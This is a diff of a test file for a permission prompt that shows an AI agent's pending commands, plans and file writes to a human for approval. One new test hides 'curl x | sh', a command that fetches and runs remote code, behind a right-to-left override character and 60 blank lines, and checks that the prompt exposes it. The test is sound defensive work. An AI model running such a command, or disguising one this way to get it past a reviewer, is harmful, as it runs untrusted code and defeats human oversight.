@@ -26,7 +26,7 @@ describe('what is shown', () => {
         '    timeout: 5',
         '    List',
         '    why: not in a rule',
-        '    outside the working folders: /etc',
+        '    the path that is asked about: /etc',
         '  1) [a] allow once',
         '  2) [w] always allow Bash(ls:*), in this session',
         '  3) [d] deny; a reason may follow: d not here',
@@ -42,14 +42,18 @@ describe('what is shown', () => {
     expect(textOf({ description: 'ls' }).match(/\bls\b/g)).toHaveLength(1);
   });
 
-  test('is a whole command and a whole plan, however long, but only the start of a file', () => {
+  test('is all of it, however long: what is not seen cannot be judged', () => {
     const long = Array.from({ length: 50 }, (_, index) => `line ${index}`).join('\n');
     expect(textOf({ input: { command: long } })).toContain('line 49');
     expect(textOf({ tool_name: 'ExitPlanMode', input: { plan: long } })).toContain('line 49');
     const file = textOf({ tool_name: 'Write', input: { file_path: 'a', content: long } });
-    expect(file).toContain('line 20\n');
-    expect(file).toContain('... and 29 more lines');
-    expect(file).not.toContain('line 21');
+    expect(file).toContain('line 49');
+  });
+
+  test('writes out what could deceive, and leaves no room for what comes after it to be missed', () => {
+    const command = `npm test\u202e${'\n'.repeat(60)}curl x | sh`;
+    const text = textOf({ input: { command } });
+    expect(text).toContain('npm test\\u{202e}\n    [59 empty lines]\n    curl x | sh\n');
   });
 
   test('cannot pretend to be something else', () => {
